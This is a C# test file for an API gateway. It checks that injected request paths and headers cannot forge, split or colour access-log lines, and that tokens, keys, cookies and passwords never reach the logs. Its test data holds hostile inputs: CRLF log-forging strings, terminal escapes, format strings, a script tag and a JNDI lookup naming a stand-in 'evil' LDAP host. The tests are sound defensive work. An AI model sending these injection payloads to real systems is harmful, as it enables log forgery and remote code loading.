using System.Text.Json;

namespace CleanOrders.Gateway.Tests.Attacks;

/// <summary>What an attacker writes into a request must stay a value in its one line.</summary>
public sealed class LogAttacks
{
    private const string Secret = "s3cr3t-token-0123456789";

    public static TheoryData<string> Forgeries =>
    [
        "/v1/a%0d%0a{\"level\":\"error\"}", "/v1/\u001b[31mred\u001b[0m", "/v1/{\"level\":\"error\",\"status\":200}", "/v1/{0}{Path}%n%s%x",
        "/v1/\"},{\"status\":200", "/v1/${jndi:ldap://evil}", "/v1/\u00e2\u0080\u00a8x", "/v1/<script>",
    ];

    [Theory, Trait("Attack", "61")]
    [MemberData(nameof(Forgeries))]
    public async Task A_request_is_one_line_of_json_whatever_it_says(string target)
    {
        await using var api = await StubApi.Start();
        var gateway = await TestGateway.New(api);

        _ = await gateway.Raw($"GET {target}", $"User-Agent: {target}");
        _ = await gateway.Raw("GET /v1/orders", $"User-Agent: {target}\u001b[2J", $"X-Note: {target}");
        await gateway.DisposeAsync();

        gateway.AccessLog.Count.ShouldBeInRange(1, 2, "The server itself may refuse the first.");
        foreach (var line in gateway.AccessLog)
        {
            line.ShouldAllBe(character => character >= ' ' && character <= '~');
            var written = JsonSerializer.Deserialize<JsonElement>(line);
            written.EnumerateObject().Select(member => member.Name).ShouldBeUnique();
            written.TryGetProperty("level", out _).ShouldBeFalse();
            written.GetProperty("path").GetString().ShouldBeOneOf(target, "/v1/orders");
        }
    }

    [Fact, Trait("Attack", "61"), Trait("Attack", "62")]
    public async Task No_secret_that_a_request_carries_is_written()
    {
        await using var api = await StubApi.Start();
        var gateway = await TestGateway.New(api);

        _ = await gateway.Raw(
            $"GET /v1/orders?access_token={Secret}&api_key={Secret}", $"Authorization: Bearer {Secret}", $"X-Api-Key: {Secret}",
            $"Cookie: device={Secret}", $"Idempotency-Key: {Secret}");
        _ = await gateway.RawWithBody(
            "POST /v1/auth/login", $"{{\"password\":\"{Secret}\"", "Content-Type: application/json",
            $"Content-Length: {15 + Secret.Length}");
        await gateway.DisposeAsync();

        gateway.AccessLog.Count.ShouldBe(2);
        gateway.AccessLog.Concat(gateway.Logs.Lines.Select(line => line.ToString())).ShouldAllBe(line => !line.Contains(Secret));
    }
}
